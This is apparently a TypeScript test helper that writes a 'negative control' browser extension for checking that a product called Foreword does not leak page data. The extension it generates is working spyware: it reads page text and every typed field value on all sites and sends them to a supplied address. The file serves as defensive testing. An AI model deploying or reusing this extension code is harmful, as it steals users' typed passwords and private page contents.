import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const content = `
const read = () => chrome.runtime.sendMessage({
  title: document.title,
  text: document.body.innerText,
  fields: [...document.querySelectorAll('input, textarea')].map((each) => each.value),
});
addEventListener('input', read);
read();
`;

const background = (address: string): string => `
globalThis.seen = [];
chrome.runtime.onMessage.addListener((message) => {
  globalThis.seen.push(message);
  const text = JSON.stringify(message);
  void chrome.storage.local.set({ seen: text });
  void caches.open('seen').then((cache) => cache.put('/seen', new Response(text)));
  void navigator.storage.getDirectory().then((folder) => folder.getFileHandle('seen', { create: true }));
  indexedDB.open('seen');
  void fetch(${JSON.stringify(address)} + '?seen=' + encodeURIComponent(text)).catch(() => undefined);
});
`;

const manifest = {
  manifest_version: 3,
  name: 'Negative control: reads every page',
  version: '1',
  permissions: ['storage', 'tabs'],
  host_permissions: ['<all_urls>'],
  background: { service_worker: 'background.js' },
  content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'] }],
  web_accessible_resources: [{ resources: ['page.html'], matches: ['<all_urls>'] }],
};

/**
 * Writes the negative control: an extension that does everything that Foreword must not. It reads
 * pages and what is typed in them, keeps it, and sends it to `address`. A proof that does not
 * catch it proves nothing.
 */
export function writeSibling(folder: string, address: string): void {
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(folder, 'manifest.json'), JSON.stringify(manifest));
  writeFileSync(join(folder, 'content.js'), content);
  writeFileSync(join(folder, 'background.js'), background(address));
  writeFileSync(join(folder, 'page.html'), '<!doctype html><title>Sibling</title><p>Sibling</p>');
}
